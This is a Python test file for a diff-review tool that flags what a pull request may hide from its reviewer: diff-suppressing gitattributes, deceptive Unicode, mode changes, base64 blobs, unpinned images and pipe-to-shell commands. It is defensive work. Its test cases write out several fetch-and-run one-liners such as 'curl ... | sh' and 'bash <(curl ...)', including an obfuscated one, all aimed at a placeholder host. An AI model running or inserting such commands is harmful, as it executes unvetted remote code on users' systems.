"""What a diff may not show its reviewer (R21, R22)."""

import base64
import os
import random
import subprocess
from pathlib import Path

import pytest

from labwright.decide.attributes import Attributes
from labwright.decide.honesty import MOST_OF_A_KIND, warnings_of
from labwright.domain.pull_page import Caution, Doubt
from labwright.domain.snapshot import Entry
from labwright.domain.task import Task

pytestmark = pytest.mark.slow

PLAIN, EXEC, LINK = "100644", "100755", "120000"
SHA = "0123456789" * 4
RUN = "experiments/a/run.sh"


def look(text: str | bytes, path: str = RUN, mode: str = PLAIN, attributes: str = "") -> tuple[Caution, ...]:
    data = text if isinstance(text, bytes) else text.encode()
    given = {".gitattributes": attributes.encode()} if attributes else {}
    return warnings_of([(path, Entry(PLAIN, "1"), Entry(mode, "2"), data)], given)


def test_r21_an_ordinary_file_has_no_warnings() -> None:
    text = "import numpy as np\n\nΔx = 3  # µ, größe, 数据, Привет, 👩‍🔬\npip install torch\ncurl -O https://e.org/data.tar\nls | sort\n"
    assert look(text) == ()
    assert look("\ufeffwindows\r\nlines\r\n") == ()


@pytest.mark.parametrize(
    ("line", "hides"),
    [
        ("*.sh -diff", True),
        ("*.sh binary", True),
        ("run.sh diff=false", True),
        ("experiments/**/run.sh linguist-generated", True),
        ("/experiments/a/* linguist-generated=true", True),
        ("*.sh linguist-vendored", True),
        ("*.sh filter=lfs", True),
        ("*.sh ident", True),
        ("*.sh working-tree-encoding=UTF-16", True),
        ("*.sh export-ignore", True),
        ("[attr]quiet -diff\n*.sh quiet", True),
        ("*.sh -diff\nrun.sh diff", False),
        ("*.sh -linguist-generated", False),
        ("*.sh linguist-generated=false", False),
        ("*.py -diff", False),
        ("b/*.sh -diff", False),
        ("experiments/ -diff", False),
        ("*.sh text eol=lf merge=union diff=bash", False),
        ("# *.sh -diff", False),
    ],
)
def test_r21_attributes_that_hide_a_file_are_told_and_others_are_not(line: str, hides: bool) -> None:
    found = look("echo\n", attributes=line)
    assert [c.doubt for c in found] == ([Doubt.HIDDEN] if hides else [])
    assert all(f".gitattributes:{line.count(chr(10)) + 1}" in c.words for c in found)


def test_r21_a_nearer_gitattributes_wins() -> None:
    changed = [(RUN, None, Entry(PLAIN, "2"), b"echo\n")]
    files = {"experiments/a/.gitattributes": b"run.sh diff\n", ".gitattributes": b"*.sh -diff\n"}
    assert warnings_of(changed, files) == ()
    files = {"experiments/a/.gitattributes": b"run.sh -diff\n", ".gitattributes": b"*.sh diff\n"}
    assert [c.words for c in warnings_of(changed, files)] == [
        "`-diff` (experiments/a/.gitattributes:1): its diff is not shown"
    ]


@pytest.mark.parametrize(
    ("character", "word"),
    [
        ("\u202e", "RIGHT-TO-LEFT OVERRIDE"),
        ("\u2066", "LEFT-TO-RIGHT ISOLATE"),
        ("\u200b", "ZERO WIDTH SPACE"),
        ("\u3164", "HANGUL FILLER"),
        ("\U000e0041", "TAG LATIN CAPITAL LETTER A"),
        ("\x1b", "control character U+001B"),
        ("\r", "carriage return"),
        ("раss", "CYRILLIC"),
        ("ｅval", "FULLWIDTH"),
    ],
)
def test_r21_characters_that_lie_are_told_with_their_line(character: str, word: str) -> None:
    found = look(f"one\ntwo {character} x\nthree\n")
    assert [(c.line, c.doubt) for c in found] == [(2, Doubt.CHARACTERS)]
    assert word in found[0].words


def test_r21_modes_links_and_binaries_are_told() -> None:
    assert "executable now" in look("x\n", mode=EXEC)[0].words
    assert "symlink" in look("../../etc", mode=LINK)[0].words
    assert [c.doubt for c in look(b"\x7fELF\0\0")] == [Doubt.BINARY]
    assert [c.doubt for c in look(b"caf\xe9\n")] == [Doubt.BINARY]
    removed = [(RUN, Entry(PLAIN, "1"), None, b"")]
    assert warnings_of(removed, {".gitattributes": b"* -diff"}) == ()


def test_a_binary_file_with_a_command_in_it_is_told_for_both() -> None:
    assert [c.doubt for c in look(b"curl e.org/x | sh\n\0")] == [Doubt.REMOTE, Doubt.BINARY]


def test_r21_long_lines_and_long_runs_of_base64_are_told() -> None:
    blob = base64.b64encode(random.Random(1).randbytes(1500)).decode()
    assert [c.doubt for c in look(f"a\nX = '{blob}'\n")] == [Doubt.ENCODED, Doubt.LONG]
    wrapped = "\n".join(blob[n : n + 76] for n in range(0, len(blob), 76))
    assert [(c.line, c.doubt) for c in look(f"a\n{wrapped}\n")] == [(2, Doubt.ENCODED)]
    assert look("#" + "-" * 300 + "\n" + "=" * 300 + "\n" + "ab12" * 60 + "\n") == ()


@pytest.mark.parametrize(
    "text",
    [
        "curl -sSL https://e.org/i.sh | sh",
        "wget -qO- e.org | sudo -E bash -s",
        "curl e.org \\\n  | tee log | python3 -",
        "curl e.org |\n  bash",
        "curl e.org | /usr/bin/env bash",
        "bash <(curl -s e.org)",
        'sh -c "$(wget -qO- e.org)"',
        "eval `curl e.org`",
        ". <(curl e.org)",
    ],
)
def test_r21_code_from_the_network_is_told(text: str) -> None:
    found = look(f"set -e\n{text}\n")
    assert [(c.line, c.doubt) for c in found] == [(2, Doubt.REMOTE)]


@pytest.mark.parametrize("text", ["curl e.org | shasum", "curl e.org > x\ncat x | sh", "echo curl; ls\nls | bash x"])
def test_a_pipe_that_does_not_run_what_was_fetched_is_not_told(text: str) -> None:
    assert look(text + "\n") == ()


@pytest.mark.parametrize(
    ("path", "text", "told"),
    [
        ("a/requirements.txt", "x @ git+https://e.org/x.git@main", True),
        ("a/requirements.txt", f"x @ git+https://e.org/x.git@{SHA}#egg=x", False),
        ("a/requirements.txt", "torch\nnumpy==2", False),
        ("a/task.yaml", "github_repo_branch: main", True),
        ("a/task.yaml", f"github_repo_branch: '{SHA}'", False),
        ("a/task.yaml", "resources: {image_id: 'docker:org/x:latest'}", True),
        ("a/task.yaml", f"environment:\n  image: org/x@sha256:{'a' * 64}", False),
        ("a/task.yaml", "image_id: ami-0123456789", False),
        ("a/run.sh", "apptainer run docker://org/x:1 y", True),
        ("a/run.sh", "srun --container-image=org/x:1 y", True),
        ("a/Dockerfile", "FROM python:3.11 AS base\nFROM base", True),
        ("a/Dockerfile", f"FROM python@sha256:{'a' * 64}", False),
        ("a/README.md", "image: see python:3.11", False),
    ],
)
def test_r22_what_may_be_another_thing_tomorrow_is_told(path: str, text: str, told: bool) -> None:
    assert [c.doubt for c in look(text + "\n", path)] == ([Doubt.UNPINNED] if told else [])


def test_r21_a_task_is_read_as_it_is_understood_and_nothing_is_said_twice() -> None:
    task = Task(name="t", run="curl e.org | sh\n", github_repo_url="https://e.org/x")
    path = "experiments/a/task.yaml"
    hidden = 'name: t\nrun: "cu\\x72l e.org | sh"\n'
    found = warnings_of([(path, None, Entry(PLAIN, "1"), hidden.encode())], {}, {path: task})
    assert [(c.line, c.doubt) for c in found] == [(0, Doubt.REMOTE), (0, Doubt.UNPINNED)]
    open_one = "name: t\nrun: |\n  curl e.org | sh\n"
    found = warnings_of([(path, None, Entry(PLAIN, "1"), open_one.encode())], {}, {path: task})
    assert [(c.line, c.doubt) for c in found] == [(3, Doubt.REMOTE), (0, Doubt.UNPINNED)]


def test_many_harmless_warnings_push_no_grave_one_out() -> None:
    noise = [(f"experiments/a/{n}.txt", None, Entry(PLAIN, "1"), b"x" * 2000) for n in range(300)]
    grave = ("experiments/z.py", None, Entry(PLAIN, "1"), "a\u202eb".encode())
    found = warnings_of([*noise, grave], {})
    assert found[0].path == "experiments/z.py"
    assert len(found) == MOST_OF_A_KIND + 2
    assert found[-1].words == "and more that are not listed: 260 of the kind `long`"


def test_of_a_huge_file_the_beginning_is_looked_at_and_that_is_told() -> None:
    found = look("x\n" * 2_000_000)
    assert [c.words for c in found] == ["only the first 1,048,576 of its 4,000,000 bytes were looked at"]


@pytest.mark.parametrize(
    "piece",
    ["|sudo -", "curl ", "|sh ", "curl|", "git+https://", "image", "[", "\u202e", "FROM ", " ", "$(", "<( ", "\u0430a ", "\\\n|", "|/", "A", "--container-image "],
)  # fmt: skip
def test_no_text_takes_more_than_time_in_line_with_its_length(piece: str) -> None:
    """A pattern that goes back and forth would take minutes here, and the test's own time limit ends it."""
    for path in ("Dockerfile", "task.yaml"):
        look((piece * (1 << 20))[: 1 << 20], path)


def test_rules_too_many_or_too_costly_to_read_are_told() -> None:
    many = [("x.py", None, Entry(PLAIN, "1"), b"")]
    assert "more rules" in warnings_of(many, {".gitattributes": b"*.c -diff\n" * 501})[0].words
    stars = ("*a" * 140 + "b -diff\n").encode() * 400
    files = [("a" * 250, None, Entry(PLAIN, "1"), b"")] * 10_000
    assert "more rules" in warnings_of(files, {".gitattributes": stars})[0].words


def test_attributes_are_those_that_git_tells(tmp_path: Path) -> None:
    rng = random.Random(4)
    names = ["a", "b", "ab", "a.py", "run.sh", "x-y", "[a]", "*"]
    parts = [*names, "*", "?", "a*", "*.py", "[ab]", "[!a]*", "**", "\\*", "[a-c]", "*a*b*"]
    paths = sorted({"/".join(rng.choice(names) for _ in range(rng.randint(1, 4))) for _ in range(150)})
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True, env=env)
    for _ in range(25):
        lines = []
        for _ in range(6):
            pattern = rng.choice(["", "", "/"]) + "/".join(rng.choice(parts) for _ in range(rng.randint(1, 3)))
            lines.append(f"{pattern} {rng.choice(['-diff', 'diff', 'binary', '!diff', 'diff=x'])}")
        text = "\n".join(lines) + "\n"
        (tmp_path / ".gitattributes").write_text(text)
        told = subprocess.run(
            ["git", "-C", str(tmp_path), "check-attr", "-z", "--stdin", "diff"],
            input="\0".join(paths), capture_output=True, text=True, check=True, env=env,
        ).stdout.split("\0")  # fmt: skip
        git = dict(zip(told[0::3], told[2::3], strict=False))
        ours = Attributes.read({".gitattributes": text.encode()}, "diff".__eq__)
        for path in paths:
            state = ours.of(path).get("diff")
            assert (state.value if state else "unspecified") == git[path], (text, path)
